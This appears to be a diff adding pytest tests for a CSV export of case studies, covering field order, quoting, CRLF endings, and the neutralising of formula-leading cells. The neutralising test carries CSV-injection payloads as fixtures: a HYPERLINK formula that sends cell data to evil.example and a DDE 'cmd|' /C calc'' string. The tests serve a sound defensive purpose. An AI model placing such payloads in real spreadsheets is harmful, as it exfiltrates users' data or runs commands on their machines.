@@ -38,3 +38,52 @@ def test_document_shape_and_order() -> None:
 def test_build_time_honours_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
     assert build_time().isoformat() == "2023-11-14T22:13:20+00:00"
+
+
+# --- /case-studies.csv ------------------------------------------------------------
+
+
+def read_csv(text: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    assert text.startswith("\ufeff"), "a byte order mark, so Excel reads UTF-8"
+    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
+
+
+def test_csv_has_the_json_fields_in_the_json_order() -> None:
+    from macros.exports import build_csv_index
+
+    index = build_index(
+        [
+            study("old", "2024-01-01", hubs=("jurassic", "mobius"), trust=Trust(name="T"), school=School(name="S")),
+            study("new", "2025-01-01", title="Café, \"quotes\"\nand a new line"),
+            study("draft", "2025-06-01", draft=True),
+        ],
+        VOCABULARIES,
+    )
+    text = build_csv_index(index)
+    rows = read_csv(text)
+    entries = json.loads(build_json_index(index, dt.datetime(2025, 7, 1, tzinfo=dt.timezone.utc)))["case_studies"]
+    assert list(rows[0]) == list(entries[0])
+    assert [row["slug"] for row in rows] == ["new", "old"]
+    assert rows[0]["title"] == 'Café, "quotes"\nand a new line'
+    assert rows[1]["hubs"] == "jurassic; mobius"
+    assert rows[1]["trust"] == "T" and rows[0]["trust"] == "" and rows[0]["programmes"] == ""
+    assert text.count("\r\n") == 3  # header and two rows end in CRLF (RFC 4180); the quoted title keeps its own line break
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_text(start: str) -> None:
+    from macros.exports import build_csv_index
+
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1, "Click")'
+    index = build_index(
+        [study("hostile", title=hostile, summary=f"{start}1+1 is a summary", trust=Trust(name=f"{start}cmd|' /C calc'!A0"))],
+        VOCABULARIES,
+    )
+    row = read_csv(build_csv_index(index))[0]
+    assert row["title"] == "'" + hostile
+    assert row["summary"] == f"'{start}1+1 is a summary"
+    assert row["trust"].startswith("'" + start)
+    assert row["slug"] == "hostile"  # ordinary cells are left alone
